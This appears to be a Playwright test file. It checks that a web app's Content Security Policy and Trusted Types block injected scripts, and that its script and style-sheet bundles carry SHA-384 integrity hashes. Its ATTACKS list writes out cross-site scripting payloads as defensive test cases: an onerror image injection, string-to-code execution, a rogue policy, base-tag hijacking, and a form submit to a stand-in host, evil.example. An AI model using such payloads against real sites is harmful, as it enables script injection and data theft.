import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

import { THIRD_PARTIES } from '../support/addresses';
import { expect, test } from '../support/visit';

const DIST = join(import.meta.dirname, '../../dist');

const CODE = 'DVDQDWM7GJ4R';

/** What the page may not do, each as an attack would try it. */
const ATTACKS = {
  'load a script from elsewhere': () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js';
    document.head.append(script);
  },
  'make markup of a text': () => {
    Reflect.set(document.body, 'innerHTML', '<img src=x onerror="window.isAttacked = true">');
  },
  'make code of a text': () => {
    setTimeout('window.isAttacked = true' as unknown as () => void);
  },
  'write a script into the page': () => {
    const script = document.createElement('script');
    script.textContent = 'window.isAttacked = true';
    document.head.append(script);
  },
  'make another policy': () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => void };
    };
    trustedTypes.createPolicy('evil', { createScriptURL: (url: string) => url });
  },
  'be shown in a frame of another': () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
  },
  'send a form away': () => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();
  },
  'take a picture from anywhere': () => {
    const image = document.createElement('img');
    image.src = 'https://evil.example/x.png';
    document.body.append(image);
  },
  'move the base of all addresses': () => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
  },
};

test('I4 every script and style sheet of ours runs as the bytes that were released', async ({
  page,
  home,
  chooser,
  renew,
}) => {
  await renew(CODE);
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    new MutationObserver((changes) => {
      for (const node of changes.flatMap(({ addedNodes }) => [...addedNodes])) {
        const isScript = node instanceof HTMLScriptElement && node.src !== '';
        const isSheet = node instanceof HTMLLinkElement && node.rel === 'stylesheet';
        if (isScript) seen.push(`${node.src} ${node.crossOrigin ?? ''} ${node.integrity}`);
        if (isSheet) seen.push(`${node.href} ${node.crossOrigin ?? ''} ${node.integrity}`);
      }
    }).observe(document, { childList: true, subtree: true });
  });

  await home.open();
  await home.goOnWith(CODE);
  await expect(chooser.heading).toBeVisible();
  await page.getByRole('banner').getByRole('link', { name: 'Support' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Support and FAQ');

  const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen);
  const own = seen.filter((one) => !one.startsWith(THIRD_PARTIES));
  expect(own.length).toBeGreaterThan(10);
  for (const one of own) {
    expect(one).toMatch(/^http:\S+\.(js|css) anonymous sha384-[A-Za-z0-9+/]{64}$/);
  }
});

test('I4 whatever a release loads later is named by its hash in what loads it', () => {
  for (const release of [...releasesIn('remotes/*'), ...releasesIn('shell')]) {
    const files = readdirSync(release).filter((file) => /\.(js|css)$/.test(file));
    const texts = ['index.html', ...files]
      .filter((file) => existsSync(join(release, file)))
      .map((file) => readFileSync(join(release, file), 'utf8'));
    // The registry names the entry, and no browser takes a service worker by its hash.
    const later = files.filter((file) => !/^(remoteEntry\.|service-worker\.js$)/.test(file));
    expect(later.length).toBeGreaterThan(5);
    for (const file of later) {
      const hash = createHash('sha384').update(readFileSync(join(release, file)));
      const integrity = `sha384-${hash.digest('base64')}`;
      expect(
        texts.filter((text) => text.includes(integrity)),
        file,
      ).not.toEqual([]);
    }
  }
});

for (const [attack, make] of Object.entries(ATTACKS)) {
  test(`I1 a page cannot ${attack}`, async ({ page, complaints }) => {
    await page.goto('/error');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const asked: string[] = [];
    await page.route('https://evil.example/**', async (route) => {
      asked.push(route.request().url());
      await route.abort();
    });

    await page.evaluate(make).catch(() => undefined);

    await expect.poll(() => complaints.join()).toMatch(/Content Security Policy|Trusted|policy/);
    expect(await page.evaluate(() => 'isAttacked' in window)).toBe(false);
    expect(asked).toEqual([]);
    complaints.length = 0;
  });
}

/** The folders of the versions below `dist/`; `*` stands for every name. */
function releasesIn(place: string): string[] {
  const [first = '', ...rest] = place.split('/');
  const parents = rest.reduce(
    (folders) => folders.flatMap((folder) => readdirSync(folder).map((name) => join(folder, name))),
    [join(DIST, first)],
  );
  return parents.flatMap((folder) => readdirSync(folder).map((version) => join(folder, version)));
}
